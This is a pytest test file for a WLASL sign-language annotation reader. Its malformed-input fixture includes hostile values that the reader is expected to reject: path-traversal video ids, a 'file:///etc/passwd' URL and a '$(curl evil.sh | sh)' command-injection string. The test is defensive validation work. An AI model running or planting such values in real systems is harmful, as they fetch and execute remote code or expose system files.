"""The WLASL v0.3 reader on the real annotation files and on malformed and hostile input."""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import pytest

from conftest import wlasl_instance, write_json
from sldata.annotations import RejectLog
from sldata.annotations.jsonfile import AnnotationFileError
from sldata.annotations.wlasl import read_wlasl


@pytest.mark.parametrize(("name", "glosses", "instances"), [("asl100.json", 100, 2038), ("asl300.json", 300, 5117)])
def test_reads_real_files_completely(shared: Path, name: str, glosses: int, instances: int) -> None:
    rejects = RejectLog()
    rows, classes, prov = read_wlasl(shared / "wlasl" / name, rejects)
    assert len(rows) == instances and len(classes) == glosses and len(rejects) == 0
    raw = (shared / "wlasl" / name).read_bytes()
    assert prov.sha256 == hashlib.sha256(raw).hexdigest() and prov.size == len(raw)
    assert len({r["sample_id"] for r in rows}) == instances


def test_crop_and_box_conventions_on_real_rows(shared: Path) -> None:
    data = json.loads((shared / "wlasl" / "asl100.json").read_text())
    rows, _, _ = read_wlasl(shared / "wlasl" / "asl100.json", RejectLog())
    by_id = {r["original_id"]: r for r in rows}
    seen_open_end = seen_closed_end = False
    for label, entry in enumerate(data):
        for inst in entry["instances"]:
            row = by_id[inst["video_id"]]
            assert row["label"] == label and row["gloss"] == entry["gloss"] and row["split"] == inst["split"]
            assert row["start_frame"] == inst["frame_start"] - 1
            assert row["start_s"] == pytest.approx((inst["frame_start"] - 1) / 25)
            if inst["frame_end"] == -1:
                seen_open_end = True
                assert row["end_frame"] is None and row["end_s"] is None
            else:
                seen_closed_end = True
                assert row["end_frame"] == inst["frame_end"]
                assert row["end_s"] == pytest.approx(inst["frame_end"] / 25)
            assert [row["box_xmin"], row["box_ymin"], row["box_xmax"], row["box_ymax"]] == inst["bbox"]
            assert row["box_units"] == "pixel" and row["signer_id"] == inst["signer_id"]
    assert seen_open_end and seen_closed_end
    book = by_id["69241"]
    assert book["source_site"] == "aslbrick" and book["url"] == "http://aslbricks.org/New/ASL-Videos/book.mp4"


def test_several_clips_of_one_youtube_video_share_a_source_key(shared: Path) -> None:
    rows, _, _ = read_wlasl(shared / "wlasl" / "asl300.json", RejectLog())
    keys = [r["source_key"] for r in rows]
    youtube = [k for k in keys if k.startswith("youtube-")]
    assert youtube and len(set(youtube)) < len(youtube)


def bad_file(tmp_path: Path) -> Path:
    entries = [
        {"gloss": "book", "instances": [
            wlasl_instance("00001"),
            wlasl_instance("00002", frame_end=5, frame_start=10),
            wlasl_instance("../x"),
            wlasl_instance("a/b"),
            wlasl_instance("00003", url="file:///etc/passwd"),
            wlasl_instance("00004", url="$(curl evil.sh | sh)"),
            wlasl_instance("00005", fps="25"),
            wlasl_instance("00006", frame_start=True),
            {k: v for k, v in wlasl_instance("00007").items() if k != "url"},
            wlasl_instance("00001"),
            wlasl_instance("00008", split="dev"),
            wlasl_instance("00009", bbox=[50, 50, 10, 10]),
            "not an object",
        ]},
        {"gloss": 42, "instances": [wlasl_instance("00010")]},
        {"gloss": "café", "instances": [wlasl_instance("00011", frame_end=-1)]},
        {"gloss": "book", "instances": [wlasl_instance("00012")]},
        ["not", "an", "entry"],
        {"gloss": "drink", "instances": [wlasl_instance("00013", url="ftp://host/v.mp4")]},
    ]
    return write_json(tmp_path / "bad.json", entries)


def test_malformed_and_hostile_rows_are_rejected_with_reasons(tmp_path: Path) -> None:
    rejects = RejectLog()
    rows, classes, _ = read_wlasl(bad_file(tmp_path), rejects)
    assert sorted(r["original_id"] for r in rows) == ["00001", "00011"]
    got = {(r.row, r.field, r.reason) for r in rejects.rejects}
    assert got == {
        ("[0].instances[1]", "frame_end", "end_before_start"),
        ("[0].instances[2]", "video_id", "unsafe_id"),
        ("[0].instances[3]", "video_id", "unsafe_id"),
        ("[0].instances[4]", "url", "unsupported_url_scheme"),
        ("[0].instances[5]", "url", "malformed_url"),
        ("[0].instances[6]", "fps", "wrong_type"),
        ("[0].instances[7]", "frame_start", "wrong_type"),
        ("[0].instances[8]", "url", "missing_field"),
        ("[0].instances[9]", "video_id", "duplicate_id"),
        ("[0].instances[10]", "split", "invalid_value"),
        ("[0].instances[11]", "bbox", "invalid_value"),
        ("[0].instances[12]", "", "wrong_type"),
        ("[1]", "gloss", "wrong_type"),
        ("[3]", "gloss", "duplicate_gloss"),
        ("[4]", "", "wrong_type"),
        ("[5].instances[0]", "url", "unsupported_url_scheme"),
    }
    # A rejected gloss entry keeps its class index: later labels never shift.
    assert classes == ["book", None, "café", None, None, "drink"]
    assert {r["original_id"]: r["label"] for r in rows} == {"00001": 0, "00011": 2}
    assert all(r.file.endswith("bad.json") and r.detail for r in rejects.rejects)
    assert "../x" in next(r.record for r in rejects.rejects if r.row == "[0].instances[2]")


def test_malformed_json_names_file_and_line(tmp_path: Path) -> None:
    path = tmp_path / "broken.json"
    path.write_text('[{"gloss": "book",\n "instances": [}]')
    with pytest.raises(AnnotationFileError, match=r"broken.json: malformed JSON at line 2"):
        read_wlasl(path, RejectLog())


def test_wrong_top_level_shape_and_missing_file(tmp_path: Path) -> None:
    with pytest.raises(AnnotationFileError, match="expected a JSON list"):
        read_wlasl(write_json(tmp_path / "obj.json", {"gloss": "book"}), RejectLog())
    with pytest.raises(AnnotationFileError, match="not found"):
        read_wlasl(tmp_path / "missing.json", RejectLog())
